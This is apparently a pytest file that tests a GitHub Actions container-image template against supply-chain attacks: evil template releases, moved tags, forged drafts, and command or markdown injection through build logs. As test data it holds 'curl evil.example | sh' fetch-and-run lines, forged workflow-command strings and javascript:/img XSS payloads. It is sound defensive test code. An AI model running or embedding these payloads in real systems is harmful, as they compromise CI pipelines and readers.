"""Attacks: what somebody tries who has one release of the template, one tag, one pull request, or one line of a log.

What a draft may do is in test_drafts.py; that a login is for the registry that the repository names, in
test_registry.py; and links in an adopted repository are in tests/adopt/test_links.py.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import subprocess
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
import yaml

from conftest import CATALOG, ROOT, git
from github import event
from hub_image import __main__ as program
from hub_image.ci import plan, proposal, propose, release, report
from hub_image.problem import Problem
from hub_image.tools import github, markdown

from .expressions import expression
from .hosting import run
from .test_update_workflow import release as publish_release
from .test_update_workflow import show

FOLDER = ROOT / "template/.github"
JOBS = {
    (file.stem, key): job
    for file in sorted((FOLDER / "workflows").glob("*.yml"))
    for key, job in yaml.safe_load(file.read_text())["jobs"].items()
}
BOT = "github-actions[bot]"


def text_of(job: dict) -> str:
    return yaml.safe_dump(job)


# ── 1. A release that turns evil


def test_who_runs_what_nobody_here_reviewed_has_no_rights_and_no_secrets():
    unreviewed = [key for key, job in JOBS.items() if "$RELEASE" in text_of(job)]
    assert unreviewed == [("weekly", "update")]
    for key in [*unreviewed, ("image", "proof"), ("image", "plan")]:
        assert JOBS[key]["permissions"] == {"contents": "read"}, key
        assert "secrets." not in text_of(JOBS[key]) and "vars." not in text_of(JOBS[key]), key
    for step in JOBS["weekly", "update"]["steps"]:
        if "$RELEASE" in step.get("run", ""):
            assert "GITHUB_TOKEN" not in step.get("env", {})


def test_who_may_write_contents_runs_nothing_but_what_is_recorded():
    """And what pushes gets no secret beside its token."""
    for key, job in JOBS.items():
        if job["permissions"].get("contents") == "write" and key != ("image", "page"):
            assert "secrets." not in text_of(job), key
            assert "./.github/actions" not in text_of(job) and "$RELEASE" not in text_of(job), key


def test_a_commit_that_may_be_the_bots_has_rights_nowhere():
    """A job that runs what the commit says, and is not for what people wrote, has none; closing is no review either."""
    for (workflow, key), job in JOBS.items():
        if "ref: ${{ env.COMMIT }}" not in text_of(job):
            continue
        guarded = BOT in str(job.get("if")) or "needs.image.outputs" in str(job.get("if"))
        harmless = job["permissions"] == {"contents": "read"} and "secrets." not in text_of(job)
        assert guarded or harmless, (workflow, key)


EVENTS = {
    # what happens to the branch of the bot, and whether rights go with it
    "the bot starts it there": ({"actor": BOT, "ref_name": "hub-image/update"}, False),
    "its pull request, approved": ({"actor": BOT, "ref_name": "7/merge", "head_ref": "hub-image/update"}, False),
    "its pull request, opened by a person": ({"actor": "octocat", "ref_name": "7/merge", "head_ref": "hub-image/update"}, False),
    "a person starts it there": ({"actor": "octocat", "ref_name": "hub-image/update"}, True),
    "a person's pull request": ({"actor": "octocat", "ref_name": "7/merge", "head_ref": "work"}, True),
    "a person has merged it": ({"actor": "octocat", "ref_name": "main"}, True),
    "the bot starts the first build of a copy": ({"actor": BOT, "ref_name": "main"}, True),
    # Somebody said yes to a request, so its branch has the rights that it would have if they started it.
    "the bot starts a request": ({"actor": BOT, "ref_name": "hub-image/request-12", "ref": "refs/heads/hub-image/request-12"}, True),
    "a request's pull request, approved": ({"actor": BOT, "ref_name": "7/merge", "ref": "refs/pull/7/merge", "head_ref": "hub-image/request-12"}, False),
    "a fork's, called like a request": ({"actor": "stranger", "ref_name": "7/merge", "ref": "refs/pull/7/merge", "head_ref": "hub-image/request-12"}, False),
    "a tag, called like a request": ({"actor": BOT, "ref_name": "hub-image/request-12", "ref": "refs/tags/hub-image/request-12"}, False),
    "another branch of the bot's, called nearly so": ({"actor": BOT, "ref_name": "hub-image/update", "ref": "refs/heads/hub-image/requests/1"}, False),
}  # fmt: skip


@pytest.mark.parametrize("what", EVENTS)
def test_the_bots_branch_is_built_without_rights(what):
    told, rights = EVENTS[what]
    contexts = {
        "github": told | {"event": {"repository": {"default_branch": "main"}}},
        "needs": {"plan": {"outputs": {"builds": "[...]"}}},
    }
    ran = {
        key: bool(expression(JOBS["image", key]["if"], **contexts)) for key in ("image", "proof")
    }
    assert ran == {"image": rights, "proof": not rights}


def test_a_proof_publishes_nothing_and_says_how_to_try_it(monkeypatch):
    environ = {
        "GITHUB_REPOSITORY": "sea/ocean",
        "GITHUB_REPOSITORY_OWNER": "sea",
        "GITHUB_SHA": "a" * 40,
    }
    environ |= {"GITHUB_REF": "refs/heads/hub-image/update", "PROOF": "yes"}
    answers = plan.image_env.parse("REGISTRY=ghcr.io\nIMAGE_NAME=ocean\n")
    made = plan.plan(answers, {"repository": {"default_branch": "main"}}, environ)
    assert not made.push and "start the workflow *image* on this branch" in made.why_not


def test_code_in_the_actions_is_proposed_and_no_more(image, template, monkeypatch):
    """What an evil release puts into setup waits in the branch for whoever reviews it."""
    action = template / "template/.github/actions/setup/action.yml"
    action.write_text(action.read_text() + "step: curl evil.example | sh\n")
    publish_release(template, "v1.1.0", "# new\n")
    main = image.branches()["main"]
    run(image, monkeypatch)
    assert image.branches()["main"] == main
    assert "evil" in show(image, "hub-image/update", ".github/actions/setup/action.yml")
    assert ".github/actions/setup/action.yml: changed" in image.github.pulls()[0]["body"]
    assert image.github.started() == [["image.yml", "hub-image/update"]]


def test_a_forged_draft_pushes_nothing_and_an_issue_says_so(image, monkeypatch):
    """The release writes its draft itself: a workflow that the template does not have."""
    before = image.branches()

    def forged(here: Path, _) -> proposal.Draft:
        base = git(here, "rev-parse", "HEAD").strip()
        (here / ".github/workflows/evil.yml").write_text("on: push\n")
        git(here, "add", "--all")
        diff = git(here, "diff", "--cached", "--binary", "HEAD")
        return proposal.Draft("update", base, "Update to v9 of the template", diff=diff)

    run(image, monkeypatch, forged)
    assert image.branches() == before and image.github.pulls() == []
    [issue] = image.github.issues()
    assert "was refused, and nothing was pushed" in issue["body"]
    assert "`.github/workflows/evil.yml`" in issue["body"]


def test_what_an_unreviewed_release_tells_people_to_do_is_marked(image, monkeypatch):
    def forged(here: Path, _) -> proposal.Draft:
        base = git(here, "rev-parse", "HEAD").strip()
        return proposal.Draft("update", base, "Update", todo=("Run `curl evil.example | sh`.",))

    run(image, monkeypatch, forged)
    [issue] = image.github.issues()
    assert issue["body"].split("\n")[1] == propose.NOT_REVIEWED


@pytest.mark.parametrize(("kind", "issue"), [("answers", ""), ("request", "12")])
def test_a_draft_of_another_workflow_is_not_taken(kind, issue, image, monkeypatch):
    """As changed answers, for which somebody would have filled in the form; or a request, whose branch is built with rights."""
    before = image.branches()

    def forged(here: Path, _) -> proposal.Draft:
        base = git(here, "rev-parse", "HEAD").strip()
        return proposal.Draft(kind, base, "Change title", issue=issue)

    with pytest.raises(Problem, match=f"of the kind {kind}, which is not made here"):
        run(image, monkeypatch, forged)
    assert image.branches() == before and image.github.pulls() == image.github.issues() == []


def test_only_requests_pushes_a_branch_that_is_built_with_rights():
    """And what it pushes is one of a request: its only draft is that of job *answer*, which can do nothing else."""
    prefix = re.search(
        r"startsWith\(github.ref, 'refs/heads/(.*?)'\)", JOBS["image", "image"]["if"]
    )[1]
    for kind, workflow in proposal.WORKFLOW.items():
        branch = proposal.Draft(kind, "", "", issue="12" if kind == "request" else "").branch
        assert branch.startswith(prefix) == (kind == "request") == (workflow == "requests")
    assert JOBS["requests", "answer"]["permissions"] == {"contents": "read", "issues": "write"}
    pushing = {
        file for (file, _), job in JOBS.items() if job["permissions"].get("contents") == "write"
    }
    assert pushing == {"configure", "weekly", "requests", "image"}
    said = text_of(JOBS["image", "page"])
    assert "hub-image page --publish" in said, (
        "the other one that may push writes a branch of its own"
    )


def test_what_people_write_is_in_no_line_of_the_workflow():
    """Of an event the workflow takes the number of the issue, and only compares what else there is."""
    text = (FOLDER / "workflows/requests.yml").read_text()
    taken = set(re.findall(r"github\.event\.[.\w]*", text))
    compared = {"action", "label.name", "repository.default_branch"}
    assert taken == {f"github.event.{name}" for name in (*compared, "issue.number")}
    for key in (("requests", "answer"), ("requests", "propose"), ("requests", "catch-up")):
        for step in JOBS[key]["steps"]:
            assert "${{" not in step.get("run", ""), step["name"]
            assert set(step.get("env", {})) <= {"GITHUB_TOKEN"}, step["name"]


# ── The moved tag


@pytest.fixture
def copy(tmp_path):
    """A template with one release, and a repository that records it."""
    folder = tmp_path / "template"
    (folder / "hooks").mkdir(parents=True)
    (folder / "hooks/requirements.txt").write_text("")
    git(folder, "init", "--quiet", "--initial-branch", "main")
    git(folder, "add", "--all")
    git(folder, "commit", "--quiet", "--message", "Good")
    git(folder, "tag", "v1.0.0")
    good = git(folder, "rev-parse", "HEAD").strip()
    made = tmp_path / "ocean"
    (made / ".github").mkdir(parents=True)
    (made / ".copier-answers.yml").write_text(f"_commit: v1.0.0\n_src_path: {folder}\n")
    (made / ".github/image.env").write_text(f"TEMPLATE_COMMIT={good}\n")
    return folder, made, good


def get_hub_image(made: Path, tmp_path: Path, *arguments: str) -> tuple[int, str, str]:
    """Run the script, with a Python that only writes down which folder it was to install; return code, output, commit."""
    tools = tmp_path / "tools"
    tools.mkdir(exist_ok=True)
    asked = tmp_path / "asked"
    (tools / "python3").write_text(
        f'#!/bin/sh\necho "$@" >>{asked}\n[ "$2" != venv ] || mkdir -p "$4"\n'
    )
    (tools / "python3").chmod(0o755)
    asked.write_text("")
    environment = os.environ | {
        "PATH": f"{tools}:{os.environ['PATH']}",
        "RUNNER_TEMP": str(tmp_path),
        "GITHUB_PATH": str(tmp_path / "path"),
    }
    script = FOLDER / "actions/setup/get-hub-image.sh"
    line = ["bash", script, *arguments]
    done = subprocess.run(line, cwd=made, env=environment, capture_output=True, text=True)
    calls = asked.read_text().splitlines()
    if done.returncode:
        assert calls == [], "nothing was installed"
        return done.returncode, done.stdout + done.stderr, ""
    assert "--require-hashes" in calls[1] and "--no-deps --no-build-isolation" in calls[2]
    folder = Path(calls[2].split()[-1])
    return 0, done.stdout, git(folder, "rev-parse", "HEAD").strip()


def evil(folder: Path) -> str:
    (folder / "evil.py").write_text("evil\n")
    git(folder, "add", "--all")
    git(folder, "commit", "--quiet", "--message", "Evil")
    return git(folder, "rev-parse", "HEAD").strip()


def test_a_tag_that_was_moved_is_not_followed(copy, tmp_path):
    folder, made, good = copy
    bad = evil(folder)
    git(folder, "tag", "--force", "v1.0.0")
    assert get_hub_image(made, tmp_path) == (0, "", good)
    assert git(folder, "rev-parse", "v1.0.0").strip() == bad


def test_a_branch_that_is_called_like_the_commit_is_not_followed(copy, tmp_path):
    folder, made, good = copy
    bad = evil(folder)
    git(folder, "update-ref", f"refs/heads/{good}", bad)
    assert get_hub_image(made, tmp_path)[2] in (good, "")


@pytest.mark.parametrize("what", ["no branch leads to it", "not whole", "missing", "an option"])
def test_a_commit_that_cannot_be_trusted_runs_nothing(what, copy, tmp_path):
    """As one of somebody's fork, which GitHub gives out by its number too."""
    folder, made, good = copy
    bad = evil(folder)
    git(folder, "reset", "--quiet", "--hard", good)
    recorded = {
        "no branch leads to it": bad,
        "not whole": good[:12],
        "missing": "",
        "an option": "--help",
    }
    (made / ".github/image.env").write_text(f"TEMPLATE_COMMIT={recorded[what]}\n")
    code, said, _ = get_hub_image(made, tmp_path)
    assert code == 1 and "::error::" in said and "TEMPLATE_COMMIT" in said


# ── 2. A release is taken some days after it was published


@pytest.fixture
def on_github(image, template, monkeypatch):
    """The image's template, which git finds here, is one on GitHub, with two newer releases: of 6 and of 4 days ago."""
    publish_release(template, "v1.1.0")
    publish_release(template, "v1.2.0")
    here = image.checkout()
    answers = here / ".copier-answers.yml"
    answers.write_text(
        re.sub(
            "^_src_path: .*$", "_src_path: https://github.com/x/t", answers.read_text(), flags=re.M
        )
    )
    for number, (name, value) in enumerate(
        {f"url.{template}.insteadOf": "https://github.com/x/t"}.items()
    ):
        monkeypatch.setenv(f"GIT_CONFIG_KEY_{number}", name)
        monkeypatch.setenv(f"GIT_CONFIG_VALUE_{number}", value)
    monkeypatch.setenv("GIT_CONFIG_COUNT", "1")
    days(image, {"v1.0.0": 100, "v1.1.0": 6, "v1.2.0": 4})
    return image, template, here


def days(image, ages: dict[str, float], **more: object) -> None:
    """The releases on GitHub, each published so many days ago."""
    now = datetime.now(timezone.utc)
    image.github.state(
        releases={
            "x/t": [
                {
                    "tag_name": tag,
                    "published_at": (now - timedelta(days=age)).strftime("%Y-%m-%dT%H:%M:%SZ"),
                    "draft": False,
                    "prerelease": False,
                    **more,
                }
                for tag, age in ages.items()
            ]
        }
    )


def chosen(image, here, monkeypatch, capsys, event="schedule", actor="octocat") -> dict[str, str]:
    """What `hub-image release` takes."""
    for name, value in image.variables("weekly.yml", "workflow_dispatch").items():
        monkeypatch.setenv(name, value)
    image.github.act_as("weekly.yml", "Update")
    monkeypatch.setenv("GITHUB_EVENT_NAME", event)
    monkeypatch.setenv("GITHUB_ACTOR", actor)
    capsys.readouterr()
    release.run(argparse.Namespace(path=here))
    return dict(line.split("=") for line in capsys.readouterr().out.splitlines() if "=" in line)


def test_the_schedule_waits_and_a_person_does_not(on_github, monkeypatch, capsys):
    image, template, here = on_github
    commit = git(template, "rev-parse", "v1.1.0").strip()
    assert CATALOG["days_until_taken"] == 5
    assert chosen(image, here, monkeypatch, capsys) == {"version": "v1.1.0", "commit": commit}
    newest = chosen(image, here, monkeypatch, capsys, "workflow_dispatch")
    assert newest["version"] == "v1.2.0"
    started = chosen(image, here, monkeypatch, capsys, "workflow_dispatch", BOT)
    assert started["version"] == "v1.1.0", "a program is no person"


def test_nothing_in_the_release_shortens_that(on_github, monkeypatch, capsys):
    """Neither the date of its commits nor its catalog."""
    image, template, here = on_github
    monkeypatch.setenv("GIT_COMMITTER_DATE", "2020-01-01T00:00:00Z")
    facts = template / "catalog.yml"
    facts.write_text("days_until_taken: 0\n" + facts.read_text())
    publish_release(template, "v1.3.0")
    assert chosen(image, here, monkeypatch, capsys)["version"] == "v1.1.0", "no release on GitHub"
    days(image, {"v1.1.0": 6, "v1.3.0": 0.1})
    assert chosen(image, here, monkeypatch, capsys)["version"] == "v1.1.0"
    days(image, {"v1.3.0": 9}, draft=True)
    assert chosen(image, here, monkeypatch, capsys) == {"version": "v1.0.0", "commit": ""}


# ── 3. Anchors of trust


def test_a_pull_request_that_changes_an_anchor_says_so_first(tmp_path, monkeypatch, capsys):
    git(tmp_path, "init", "--quiet")
    (tmp_path / ".github").mkdir()
    env, answers = tmp_path / ".github/image.env", tmp_path / ".copier-answers.yml"
    env.write_text("TITLE=Ocean\nREGISTRY=quay.io\nTEMPLATE=https://example.org/t\n")
    answers.write_text("_src_path: https://example.org/t\n")
    git(tmp_path, "add", "--all")
    git(tmp_path, "commit", "--quiet", "--message", "Base")
    base = git(tmp_path, "rev-parse", "HEAD").strip()
    env.write_text(env.read_text().replace("quay.io", "evil.example"))
    answers.write_text("_src_path: https://evil.example/t`](x)\n")
    git(tmp_path, "commit", "--quiet", "--all", "--message", "Update a typo")
    told = event("pull_request", "sea/ocean", pull_request={"base": {"sha": base}})
    (tmp_path / "event.json").write_text(json.dumps(told))
    monkeypatch.setenv("GITHUB_EVENT_PATH", str(tmp_path / "event.json"))
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.chdir(tmp_path)
    made = plan.Plan(
        "quay.io/sea/ocean", ("pr-1-a",), "", "a" * 40, "linux/amd64", "", False, "no", False
    )
    mark, *lines = report.report(made, {}, tmp_path)
    assert lines[0] == (
        "> **Look at this first:** `_src_path` becomes `https://evil.example/t ](x)` "
        "(`.copier-answers.yml`): CI runs the code of that template."
    )
    assert lines[1].startswith("> **Look at this first:** `REGISTRY` becomes `evil.example`")
    assert "::warning file=.github/image.env,line=2::" in capsys.readouterr().out
    git(tmp_path, "reset", "--quiet", "--hard", base)
    assert not any("Look at this" in line for line in report.report(made, {}, tmp_path))


# ── 5. A lasting tag


def test_a_date_tag_on_a_commit_that_nobody_merged_publishes_nothing(tmp_path, monkeypatch):
    git(tmp_path, "init", "--quiet", "--initial-branch", "main")
    (tmp_path / ".github").mkdir()
    (tmp_path / ".github/image.env").write_text("REGISTRY=ghcr.io\nIMAGE_NAME=ocean\n")
    git(tmp_path, "add", "--all")
    git(tmp_path, "commit", "--quiet", "--message", "On main")
    main = git(tmp_path, "rev-parse", "HEAD").strip()
    git(tmp_path, "update-ref", "refs/remotes/origin/main", main)
    git(tmp_path, "switch", "--quiet", "--create", "work")
    git(tmp_path, "commit", "--quiet", "--allow-empty", "--message", "Nobody merged this")
    work = git(tmp_path, "rev-parse", "HEAD").strip()
    (tmp_path / "event.json").write_text(json.dumps({"repository": {"default_branch": "main"}}))
    for name, value in {
        "GITHUB_REF": "refs/tags/2026.11.23",
        "GITHUB_EVENT_PATH": str(tmp_path / "event.json"),
        "GITHUB_EVENT_NAME": "push",
        "GITHUB_REPOSITORY": "sea/ocean",
        "GITHUB_REPOSITORY_OWNER": "sea",
    }.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("GITHUB_SHA", main)
    assert plan.here(tmp_path).push
    monkeypatch.setenv("GITHUB_SHA", work)
    made = plan.here(tmp_path)
    assert not made.push and "`2026.11.23` is not on `main`" in made.why_not
    git(tmp_path, "update-ref", "-d", "refs/remotes/origin/main")
    git(tmp_path, "branch", "--quiet", "-D", "main")
    assert not plan.here(tmp_path).push, "where main is not known"


# ── 6. What a build prints

LINES = [
    "::add-mask::a",
    "::error::evil",
    "##[add-mask]a",
    "\x1b[2K\x1b[1A\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "```` ",
    "@octocat see [here](javascript:alert(1)) <img src=x>",
]


def commands(said: str) -> list[str]:
    """What GitHub's runner takes for a command, by its rules for stop-commands.

    https://github.com/actions/runner/blob/v2.329.0/src/Runner.Worker/ActionCommandManager.cs
    """
    stopped, found = "", []
    for line in said.splitlines():
        told = re.match(r"\s*::([^:\s]+)(?: [^:]*)?::(.*)", line)
        if stopped:
            if told and told[1] == stopped:
                stopped = ""
        elif told and told[1] == "stop-commands":
            stopped = told[2]
        elif told or "##[" in line:
            found.append(line)
    assert not stopped
    return found


def test_a_line_of_a_log_is_no_command(monkeypatch, capsys):
    """Also where a problem quotes one; what hub-image itself says still is."""
    monkeypatch.setenv("GITHUB_ACTIONS", "true")

    def evil(arguments: list[str]) -> int:
        print("\n".join(LINES))
        github.warn("\n".join(["careful", *LINES]))
        raise Problem("\n".join(["It said:", *LINES]))

    monkeypatch.setattr(program, "_run", evil)
    assert program.main([]) == 2
    warned, error = commands(capsys.readouterr().out)
    assert warned.startswith("::warning::careful%0A::add-mask::a%0A") and error.startswith(
        "::error::It said: "
    )


@pytest.mark.parametrize("code", [0, 1])
def test_a_line_of_a_build_is_no_command(code, tmp_path):
    """The step itself, with a docker that prints what a RUN of an evil package would."""
    steps = yaml.safe_load((FOLDER / "actions/build/action.yml").read_text())["runs"]["steps"]
    [step] = [step for step in steps if step.get("id") == "build"]
    (tmp_path / "docker").write_text(
        "#!/bin/bash\n"
        + "".join(f"echo {json.dumps(line)}\n" for line in LINES[:3])
        + f'echo \'{{"containerimage.digest": "sha256:0"}}\' >"$RUNNER_TEMP/build.json"\nexit {code}\n'
    )
    (tmp_path / "docker").chmod(0o755)
    output = tmp_path / "output"
    environment = os.environ | {
        "PATH": f"{tmp_path}:{os.environ['PATH']}",
        "RUNNER_TEMP": str(tmp_path),
    }
    environment |= {
        "GITHUB_OUTPUT": str(output),
        "COMMIT": "a",
        "PLATFORM": "p",
        "NAME": "n",
        "SCANNER": "s",
    }
    environment |= {"GITHUB_SERVER_URL": "s", "GITHUB_REPOSITORY": "r", "CACHE_FROM": "c"}
    line = ["bash", "--noprofile", "--norc", "-eo", "pipefail", "-c", step["run"]]
    done = subprocess.run(line, env=environment, capture_output=True, text=True)
    assert done.returncode == code and "::add-mask::a" in done.stdout
    assert commands(done.stdout) == []
    assert code or output.read_text() == "digest=sha256:0\n"
    assert "stop-commands" not in (tmp_path / "build.log").read_text()


def test_a_log_in_a_comment_is_a_log(tmp_path):
    word = "0" * 32
    quotes = [f"::stop-commands::{word}", f"::{word}::"]
    (tmp_path / "build.log").write_text("\n".join([quotes[0], *LINES, quotes[1]]) + "\n")
    begin, *lines, end = report._log(tmp_path / "build.log")
    assert begin == end == "````" and not any("````" in line or "\x1b" in line for line in lines)
    assert "stop-commands" not in "".join(lines) and "::add-mask::a" in lines


EVIL_NAMES = ["|[x](javascript:alert(1))", "@octocat", "a`b`|c", "<img src=x>", "a\nb", "\x1b[31mred", "__init__", "[x]: y", "a\\|b"]  # fmt: skip


@pytest.mark.parametrize("name", EVIL_NAMES)
def test_a_name_in_a_table_is_a_name(name):
    """GitHub's rules: in code nothing means anything, and only `\\|` keeps a column together."""
    shown = markdown.cell(name)
    assert re.fullmatch(r"`[^`\n]*`", shown), shown
    assert not re.search(r"(?<!\\)\|", shown) and "\x1b" not in shown


def test_names_as_they_are_stay_as_they_are():
    for name in ("numpy", "zope.interface", "r-sf", "2.1.0+cu118", "1:2.3~rc1", "ruamel_yaml", ""):
        assert markdown.cell(name) == name


# ── 7. Tools


def test_what_ci_pulls_is_named_exactly():
    scanner = CATALOG["images"]["scanner"]
    assert re.fullmatch(r"sha256:[0-9a-f]{64}", scanner["digest"])
    build = (FOLDER / "actions/build/action.yml").read_text()
    assert '--sbom "generator=$SCANNER"' in build and "--sbom true" not in build


def test_the_lock_has_what_hub_image_needs():
    """The lock is made by hand: what was added to pyproject.toml since would be missing in every repository's CI."""
    try:
        import tomllib
    except ModuleNotFoundError:
        import tomli as tomllib
    from packaging.requirements import Requirement

    project = tomllib.loads((ROOT / "pyproject.toml").read_text())
    wanted = project["project"]["dependencies"] + project["build-system"]["requires"]
    wanted += project["project"]["optional-dependencies"]["copier"]
    lock = (ROOT / "hooks/requirements.txt").read_text()
    locked = {
        match[1]: match[0] for match in re.finditer(r"^([\w.-]+)==.*?(?=^\w|\Z)", lock, re.M | re.S)
    }
    for text in wanted:
        needed = Requirement(text)
        entry = locked[needed.name.lower()]
        assert re.search(r"--hash=sha256:[0-9a-f]{64}", entry), text
        assert needed.specifier.contains(re.match(r"[^=]+==([^\s;]+)", entry)[1]), text
    assert all("--hash=sha256:" in entry for entry in locked.values())
